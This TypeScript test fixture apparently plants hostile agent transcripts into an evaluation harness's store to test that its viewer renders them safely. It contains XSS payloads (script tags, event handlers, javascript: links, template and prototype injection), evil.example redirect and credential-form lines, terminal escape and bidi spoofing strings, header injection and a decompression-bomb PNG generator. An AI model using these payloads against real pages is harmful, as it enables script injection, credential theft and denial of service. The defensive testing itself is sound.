import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import type { Event, Part, RecordedEvent } from "@assay/contract";
import type { Store } from "@assay/harness/store";

const text = (value: string): Part => ({ type: "text", text: value });
const image = (mime: string, content: string | Uint8Array): Part => ({
  type: "image",
  mime,
  bytes: typeof content === "string" ? Buffer.from(content) : content,
});
const run = "window.wasRun = true";
const megabyte = 1 << 20;

/** A picture that says it has these sides, of one colour, so that few bytes become many pixels. */
function hugePicture(width: number, height: number): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height));
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    ...[chunk("IHDR", header), chunk("IDAT", rows), chunk("IEND", Buffer.alloc(0))],
  ]);
}

function chunk(name: string, content: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(name, "latin1"), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc(body));
  return Buffer.concat([length, body, sum]);
}

function crc(bytes: Uint8Array): number {
  let value = ~0;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit++) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return ~value >>> 0;
}

const deep = `${'{"a":'.repeat(3000)}1${"}".repeat(3000)}`;

/** What an agent may write to make a page do something, by what it tries. */
export const hostileTranscripts: readonly (readonly [tries: string, part: Part])[] = [
  ["a script element", text(`<script>${run}</script>`)],
  ["a handler of an image", text(`<img src=x onerror='${run}'>`)],
  ["a handler of SVG", text(`<svg onload='${run}'><animate onbegin='${run}' attributeName=x dur=1s></svg>`)],
  ["a frame with a script address", text(`<iframe src='javascript:parent.wasRun=true'></iframe>`)],
  ["a frame with a document", text(`<iframe srcdoc="<script>parent.wasRun=true</script>"></iframe>`)],
  ["foreign content in SVG", text(`<svg><foreignObject><body onload='${run}'></foreignObject></svg>`)],
  ["the end of what it stands in", text(`</pre></div></main><h1>Another page</h1><script>${run}</script>`)],
  ["a style for the page", text("<style>body{display:none}</style>")],
  ["a style from elsewhere", text("<link rel=stylesheet href=https://evil.example/a.css>")],
  ["another base of addresses", text("<base href=https://evil.example/>")],
  ["a redirection", text("<meta http-equiv=refresh content='0;url=https://evil.example/'>")],
  ["a form", text("<form action=https://evil.example/><input name=token autofocus><button>Go</button></form>")],
  ["an object", text(`<object data='data:text/html,<script>${run}</script>'></object><embed src=x>`)],
  ["a link with a script", text(`[here](javascript:${run}) <a href='javascript:${run}'>here</a>`)],
  [
    "a link to elsewhere",
    text("https://evil.example/ <a href='https://evil.example/' ping='https://evil.example/'>x</a>"),
  ],
  ["a picture by Markdown", text("![x](https://evil.example/x.png) <img src=https://evil.example/x.png>")],
  ["a template of a framework", text(`{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`)],
  ["markup of React", text(`{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror='${run}'>"}}`)],
  ["a prototype", text('{"__proto__":{"wasRun":true},"constructor":{"prototype":{"wasRun":true}}}')],
  ["a link of a terminal", text("\u001b]8;;https://evil.example/\u0007a link\u001b]8;;\u0007")],
  ["a terminal that clears itself", text("\u001b[2J\u001b[H\u001b[31mred\u001b[0m\u001b]0;title\u0007\u009b31m")],
  ["control codes", text("\u0000\u0001\u0002\u0007\u0008\u007F\u0080\u009F\r over")],
  ["half of a character", text("\uD800 \uDFFF \uFFFE \uFFFF")],
  ["text from right to left", text("\u202Etxt.exe\u202C user\u202E\u2066// check\u2069 \u2066")],
  ["marks of direction without end", text("\u2066\u2067\u2068\u202A\u202B\u202D".repeat(2000))],
  ["hidden blanks and tags", text("a\u200B\u200D\uFEFF\u2060b\u{E0041}\u{E0042}\u3164\uFFA0c")],
  ["letters that stack", text(`Z${"\u0300\u0301\u0316".repeat(5000)}`)],
  ["a family of emoji without end", text("\u{1F468}\u200D".repeat(5000))],
  ["a line of a megabyte", text("a".repeat(megabyte))],
  ["a line of fifty megabytes", text(`${"long ".repeat(10 * megabyte)}end`)],
  ["a hundred thousand lines", text("line\n".repeat(100_000))],
  ["a word that never breaks", text("\u00A0".repeat(20_000))],
  ["JSON without bottom", text(deep)],
  ["the address of data", text(`data:text/html,<script>${run}</script>`)],
  ["a picture of SVG", image("image/svg+xml", `<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`)],
  ["a picture that is a page", image("text/html", `<script>${run}</script>`)],
  ["a page that says it is a picture", image("image/png", `<script>${run}</script>`)],
  ["a type with lines in it", image("image/png\r\nset-cookie: a=b", hugePicture(1, 1))],
  ["a picture of four hundred megapixels", image("image/png", hugePicture(20_000, 20_000))],
  ["a broken picture", image("image/gif", "GIF89a\u00ff\u00ff\u00ff\u00ff")],
];

/** A conversation with such a part wherever an agent's words go. */
function eventsOf([tries, part]: (typeof hostileTranscripts)[number]): RecordedEvent[] {
  const said = part.type === "text" ? part.text : tries;
  const events: Event[] = [
    { type: "phase-started", phase: 0, prompt: [text("What is here?")], tools: ["look"] },
    {
      type: "message-added",
      role: "assistant",
      reasoning: [said],
      parts: [part],
      calls: [{ id: "call", tool: said.slice(0, 300), input: { valid: true, value: { [said.slice(0, 99)]: said } } }],
    },
    { type: "message-added", role: "tool", call: "call", parts: [part, text("after")] },
    { type: "episode-ended", outcome: { kind: "answered" } },
  ];
  return events.map((event, sequence) => ({ sequence, milliseconds: sequence * 10, event }));
}

/** Puts an episode for each of the transcripts into a run beside another that has its items; gives their ids. */
export async function plantTranscripts(store: Store, like: string): Promise<readonly string[]> {
  const id = "20261118-000002-0bad";
  const [original, [item], [first]] = await Promise.all([
    store.run(like),
    store.items(like, { from: 0, count: 1 }),
    store.episodes(like, { from: 0, count: 1 }),
  ]);
  if (original === undefined || item === undefined || first === undefined) throw new Error(`${like} has nothing`);
  await store.createRun({ id, createdAt: "2026-11-18T00:00:02.000Z", record: original.record, secrets: {} });
  await store.addItems(id, [item]);
  const scores = await store.episodeScores(first.id);
  const planted: string[] = [];
  for (const [index, each] of hostileTranscripts.entries()) {
    const [tries, part] = each;
    const said = part.type === "text" ? part.text.slice(0, 100_000) : tries;
    const episode = createHash("sha256").update(`${id} ${index}`).digest("hex").slice(0, 24);
    const events = eventsOf(each);
    const own = { id: episode, run: id, repeat: index + 1, attempt: `try-${episode}`, events: events.length };
    await store.commit({
      summary: { ...first, ...own, turns: 1, toolCalls: { [said.slice(0, 100)]: 1 } },
      submission: {
        answers: [{ to: "agent", outcome: { kind: "answered" }, value: said, text: said }],
        files: { [`${said.slice(0, 40).replaceAll("\u0000", "")}.html`]: Buffer.from(said) },
      },
      events,
      scores: scores.map((score) => ({ ...score, reason: said.slice(0, 5000) })),
      calls: [],
    });
    planted.push(episode);
  }
  await store.setStatus(id, "finished", "<b>because</b>");
  return planted;
}
